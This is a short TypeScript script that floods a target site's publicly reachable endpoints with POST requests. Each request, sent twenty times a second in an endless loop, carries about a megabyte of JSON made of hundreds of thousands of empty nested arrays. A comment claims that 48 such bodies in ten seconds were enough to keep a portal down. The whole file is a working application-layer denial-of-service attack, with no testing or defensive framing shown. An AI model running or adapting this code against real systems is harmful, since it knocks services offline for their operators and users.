import { setTimeout as wait } from 'node:timers/promises';
import { attack } from './underWay.ts';

/** So many bodies in a second; 48 in 10 s were enough to hold a portal up. */
const perSecond = 20;

/** Bodies of a megabyte that hold structure alone, under a key that nobody knows, to endpoints open to everybody. */
await attack<{ readonly url: string; readonly paths: readonly string[] }>(async ({ url, paths }, count) => {
  const body = `{"unknown":[${'[],'.repeat(330_000)}[]]}`;
  for (let n = 0; ; n++) {
    const path = paths[n % paths.length];
    void fetch(url + path, { method: 'POST', headers: { 'content-type': 'application/json' }, body }).then(
      ({ status }) => count(`answered ${status}`),
      () => count('cut off'),
    );
    await wait(1000 / perSecond);
  }
});
